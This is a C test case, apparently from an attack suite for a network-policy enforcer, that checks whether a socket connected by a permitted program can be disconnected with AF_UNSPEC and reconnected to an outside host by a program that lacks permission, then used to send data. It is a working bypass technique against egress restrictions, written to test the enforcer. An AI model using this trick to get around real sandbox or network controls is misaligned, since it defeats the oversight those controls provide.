/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A socket connected by a program that may, taken back with AF_UNSPEC, and connected again by one that may not.
 *
 * Who judges the first connect of a socket only has judged it.
 *
 * ---
 * tries: [D5]
 * breaks: {network: {matchProtocols: [{protocol: udp, fromSource: [{path: "{o}/second"}]}]}}
 * before: cp "$SELF" "$O/second"
 * wins: reached
 */
#include "attack.h"

int main(int argc, char **argv)
{
	struct sockaddr_in to = outside();
	struct sockaddr none = { .sa_family = AF_UNSPEC };

	if (argc == 1) {
		must(dup2(socket(AF_INET, SOCK_DGRAM, 0), 20), "socket");
		to.sin_port = htons(9);
		must(connect(20, (struct sockaddr *)&to, sizeof(to)), "connect");
		execl(O("second"), argv[0], "second", NULL);
		return failed("execl");
	}
	connect(20, &none, sizeof(none));
	must(connect(20, (struct sockaddr *)&to, sizeof(to)), "connect");
	must(send(20, word(), strlen(word()), 0), "send");
	return 0;
}
